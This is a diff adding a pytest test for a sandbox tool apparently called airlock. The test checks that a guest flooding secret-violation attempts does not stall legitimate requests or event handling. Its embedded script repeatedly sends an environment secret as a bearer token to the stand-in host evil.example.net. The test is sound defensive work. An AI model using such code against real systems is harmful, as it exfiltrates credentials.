@@ -13,6 +13,8 @@ import pytest
 
 from netlab import fake_value
 
+import sdk_lab
+
 AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")
 
 
@@ -228,3 +230,55 @@ def test_sigint_is_left_to_the_caller_and_sigterm_stops(serve):
     events = s.events_until("stopped")
     assert events[-1]["code"] == 128 + 15
     assert s.close() == 128 + 15
+
+
+FLOOD = b"""
+import os, socket, ssl, sys, time
+ctx = ssl.create_default_context()
+n, deadline = 0, time.time() + float(sys.argv[1])
+while time.time() < deadline:
+    try:
+        s = ctx.wrap_socket(socket.create_connection(("evil.example.net", 443), timeout=5), server_hostname="evil.example.net")
+        s.sendall(b"GET /flood HTTP/1.1\\r\\nHost: evil.example.net\\r\\nAuthorization: Bearer " + os.environ["K"].encode() + b"\\r\\n\\r\\n")
+        s.recv(100)
+        s.close()
+    except OSError:
+        pass
+    n += 1
+print(n)
+"""
+
+
+def test_a_violation_flood_while_the_client_reads_nothing_stalls_nothing(serve):
+    # The guest loops on violations while the program that started the sandbox reads no events
+    # (the C++ client reads only inside run()). Violation events queue up to a bound and are then
+    # dropped and counted; before, serve blocked writing them, stopped reading the gateway's
+    # audit pipe, and every gateway thread blocked on its audit write: the guest's legitimate
+    # requests hung until the client read again.
+    lab, env = sdk_lab.start("airlock-serve-", "alss")
+    try:
+        s = serve({"version": 1,
+                   "secrets": [{"env": "K", "value": fake_value(), "allow_hosts": ["api.example.com"]}],
+                   "network": {"on_secret_violation": "block", "egress": [env["AIRLOCK_LAB_EGRESS"]],
+                               "dns_servers": [env["AIRLOCK_LAB_DNS"]], "upstream_cas": [{"file": env["AIRLOCK_LAB_CA"]}]},
+                   "gateway": {"home": env["AIRLOCK_HOME"]}})
+        assert s.event()["type"] == "started"
+        assert run(s, 1, ["sh", "-c", "cat > /tmp/flood.py"], stdin=base64.b64encode(FLOOD).decode())["code"] == 0
+        legit = ('curl -sS -m 4 -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $K" '
+                 'https://api.example.com/flood-legit >> /tmp/legit.out 2>/dev/null')
+        script = (f"python3 /tmp/flood.py 12 > /tmp/flood.out 2>&1 & "
+                  f"(for i in 1 2 3 4 5 6 7 8; do sleep 1; {legit}; done) >/dev/null 2>&1 & echo started")
+        assert run(s, 2, ["sh", "-c", script])["stdout"] == b"started\n"
+        time.sleep(14)  # reading nothing while the guest floods
+        s.request({"type": "run", "id": 3, "argv": ["sh", "-c", "cat /tmp/legit.out; cat /tmp/flood.out"]})
+        events = s.events_until("exited")
+        out = events[-1]["stdout"].decode().split()
+        violations = sum(e["type"] == "violation" for e in events)
+        dropped = [e for e in events if e["type"] == "warning" and "dropped" in e["message"]]
+        flood = int(out[-1])
+        assert flood > 1000, out  # enough to fill the socket and the queue
+        assert out[:-1] == ["200"] * 8, f"legit requests during the flood: {out[:-1]}"
+        assert violations + sum(int(e["message"].split()[0]) for e in dropped) <= flood
+        assert violations > 0
+    finally:
+        lab.close()
